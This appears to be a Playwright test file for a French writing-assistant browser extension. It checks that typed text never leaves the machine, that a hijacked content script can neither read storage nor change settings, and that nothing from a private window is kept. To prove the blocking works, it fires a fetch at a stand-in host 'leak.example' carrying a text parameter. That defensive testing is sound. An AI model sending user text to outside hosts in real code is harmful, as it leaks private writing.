/** Nothing that is written leaves the machine, and what a site's process may ask of us is little. */
import { type CDPSession, expect, type Page, test } from '@playwright/test'
import { pages } from '../pages/pages'
import { type ExtensionBrowser, launch } from './browser'
import { marksIn } from './marks'
import { OwnUi } from './ownUi'
import { type RecordingProxy, startRecordingProxy } from './recordingProxy'
import { press } from './shortcut'
import { until } from './until'

let proxy: RecordingProxy
let extension: ExtensionBrowser
test.beforeAll(async () => {
  proxy = await startRecordingProxy()
  extension = await launch({ headless: true, proxy: proxy.port })
})
test.afterAll(async () => {
  await extension.close()
  proxy.close()
})

/**
 * What Chromium asks for by itself, with or without us: its updates, its account, its own form filling, and a connection
 * to the page's host made ahead of the page, which the test then answers.
 */
const OF_THE_BROWSER = /(?:^|\.)(?:googleapis\.com|accounts\.google\.com|www\.facebook\.com)$/

const hostsAsked = (): string[] =>
  proxy.asked
    .map((line) => /^\w+ (?:https?:\/\/)?([^:/]+)/.exec(line)?.[1] ?? line)
    .filter((host) => !OF_THE_BROWSER.test(host))

/** Evaluates where our content script lives: what a site could do that has taken over its process. */
const inOurWorld = async (page: Page, id: string): Promise<(expression: string) => Promise<unknown>> => {
  const debug: CDPSession = await page.context().newCDPSession(page)
  const worlds: number[] = []
  debug.on('Runtime.executionContextCreated', ({ context }) => {
    if (context.origin === `chrome-extension://${id}` || context.auxData?.type === 'isolated') {
      if (context.name !== '' && !context.name.startsWith('__')) worlds.push(context.id)
    }
  })
  await debug.send('Runtime.enable')
  const contextId = await until('our world is there', () => worlds.at(-1))
  return async (expression) => {
    const { result } = await debug.send('Runtime.evaluate', {
      expression,
      contextId,
      awaitPromise: true,
      returnByValue: true,
    })
    return result.value
  }
}

test('the whole demonstration asks the network for nothing, and the pages could not if they would', async () => {
  const page = await extension.context.newPage()
  const requests: string[] = []
  extension.context.on('request', (request) => requests.push(request.url()))
  await page.goto(pages.facebook)
  await page.locator('[role="textbox"][contenteditable="true"]').first().click()
  await page.keyboard.type('Bonjour Julie, nous somme désolés. Appelez-moi au 06 12 34 56 78. Merci')
  await expect.poll(async () => (await marksIn(page)).map(({ text }) => text)).toContain('somme')
  await page.keyboard.press('Control+Home')
  const worker = await extension.serviceWorker()
  await press(page, worker, 'next-remark')
  await press(page, worker, 'apply-best')
  await expect.poll(async () => (await marksIn(page)).map(({ text }) => text)).not.toContain('somme')
  const panel = await extension.openPanel(page)
  await expect(panel.getByRole('main')).toContainText('06 12 34 56 78')
  await page.bringToFront()
  await page.locator('[role="textbox"][contenteditable="true"]').first().click()
  await page.keyboard.press('Enter')
  await new OwnUi(page).part('button', /Publier quand même/)

  // The pages of the extension are refused by their own policy, whatever runs in them.
  const refused = await panel.evaluate(
    () =>
      new Promise<string>((resolve) => {
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
        void fetch('https://leak.example/?text').catch(() => undefined)
      }),
  )
  expect(refused).toBe('connect-src')

  const own = await extension.address()
  const known = new Set<string>([
    new URL(own).origin,
    ...Object.values(pages).map((address) => new URL(address).origin),
  ])
  expect(requests.filter((url) => !url.startsWith('data:') && !known.has(new URL(url).origin))).toEqual([])
  expect(hostsAsked()).toEqual([])

  // The same two logs do see a request of the background, where somebody makes one.
  await worker.evaluate(() => fetch('https://control.example/').catch(() => undefined))
  const hosts = () => [...requests.map((url) => new URL(url).hostname), ...hostsAsked()]
  await expect.poll(hosts).toContain('control.example')
  await page.close()
})

test('a site that takes over our script in its page reads no storage and reaches no guide, reply or notebook', async () => {
  const page = await extension.context.newPage()
  await page.goto(pages.plain)
  await page.locator('.box').click()
  await page.keyboard.type('Votre mesage est arrivé. ')
  await expect.poll(async () => (await marksIn(page)).map(({ text }) => text)).toEqual(['mesage'])
  const evaluate = await inOurWorld(page, new URL(await extension.address()).host)
  expect(await evaluate(`chrome.storage.local.get().then(() => 'read', () => 'refused')`)).toBe('refused')
  expect(
    await evaluate(`chrome.storage.local.set({ settings: {} }).then(() => 'written', () => 'refused')`),
  ).toBe('refused')
  const asked = (message: object): Promise<unknown> =>
    evaluate(
      `chrome.runtime.sendMessage(${JSON.stringify(message)}).then((reply) => reply ?? 'nothing', () => 'nothing')`,
    )
  for (const message of [
    { type: 'guides', ask: { kind: 'shelf' } },
    { type: 'panel', ask: { kind: 'replies', around: {} } },
    { type: 'learn', ask: { kind: 'notebook' } },
    { type: 'update-settings', change: { kind: 'erase' } },
    { type: 'update-settings', change: { kind: 'set-guard', guard: 'off' } },
    { type: 'unheard-of' },
  ])
    expect([message, await asked(message)]).toEqual([message, 'nothing'])
  expect(await asked({ type: 'settings' })).toMatchObject({ guard: 'risks' })
  await page.close()
})

test('a background killed before each message answers it all the same', async () => {
  const page = await extension.context.newPage()
  await page.goto(`${await extension.address()}src/panel/index.html`)
  const debug = await extension.context.newCDPSession(page)
  await debug.send('ServiceWorker.enable')
  const around = {}
  for (const message of [
    { type: 'review', text: 'Votre mesage', revision: 1 },
    { type: 'active-guide' },
    { type: 'settings' },
    { type: 'update-settings', change: { kind: 'learn-word', word: 'Zalando' } },
    { type: 'guides', ask: { kind: 'shelf' } },
    { type: 'panel', ask: { kind: 'replies', around } },
    { type: 'learn', ask: { kind: 'notebook' } },
    { type: 'note', happenings: [], words: 3 },
    { type: 'posted', text: 'Merci' },
  ]) {
    await debug.send('ServiceWorker.stopAllWorkers')
    // One more try, as everybody who asks makes it: the first message to a worker that is just going is lost.
    const answer = await page.evaluate(async (sent) => {
      const ask = () => chrome.runtime.sendMessage(sent)
      return (await ask().catch(ask)) === undefined ? 'none' : 'an answer'
    }, message)
    expect([message.type, answer]).toEqual([message.type, 'an answer'])
  }
  // What was changed by a background that is dead is there for the next one.
  await debug.send('ServiceWorker.stopAllWorkers')
  expect(await page.evaluate(() => chrome.storage.local.get('settings'))).toMatchObject({
    settings: { words: ['Zalando'] },
  })
  await page.close()
})

test('what is written in a private window is marked there, and kept nowhere', async () => {
  const address = await extension.address()
  const own = await extension.context.newPage()
  await own.goto('chrome://extensions/')
  // What a person ticks by hand there: no extension enters a private window otherwise.
  await own.evaluate(
    `chrome.developerPrivate.updateExtensionConfiguration({
      extensionId: '${new URL(address).host}',
      incognitoAccess: true,
    })`,
  )
  // The browser starts the extension anew for it, and lets nobody in until that is done.
  await expect(() => own.goto(`${address}src/options/index.html#privacy`)).toPass()
  await own.evaluate(() => chrome.storage.session.clear())
  await own.evaluate(() =>
    chrome.runtime.sendMessage({
      type: 'update-settings',
      change: { kind: 'set-notebook', notebook: 'sentences' },
    }),
  )
  const write = async (page: Page, text: string, mistake: string): Promise<void> => {
    await page.goto(pages.plain)
    await page.locator('.box').click()
    await page.keyboard.type(text)
    await expect.poll(async () => (await marksIn(page)).map((mark) => mark.text)).toEqual([mistake])
  }
  const opened = extension.context.waitForEvent('page')
  await own.evaluate(() => chrome.windows.create({ incognito: true }))
  const secret = await opened
  await write(secret, 'Bonjour Julie, votre mesage est bien arrivé chez nous. ', 'mesage')
  await secret.keyboard.press('Enter')
  await expect(secret.locator('#posted li')).toHaveCount(1)
  const ordinary = await extension.context.newPage()
  await write(ordinary, 'Bonjour Julie, votre comande est bien arrivée chez vous. ', 'comande')
  // Whatever was to be kept of the first is kept before what is told of the second.
  const kept = async (): Promise<string> => {
    await own.reload()
    await own.locator('.stored').waitFor()
    return (await own.locator('main').textContent()) ?? ''
  }
  // The sentence as far as it was written when the mistake was seen.
  await expect.poll(kept).toContain('votre comande')
  expect(await kept()).not.toMatch(/mesage|"digest"|posted/)
  await Promise.all([secret.close(), ordinary.close(), own.close()])
})
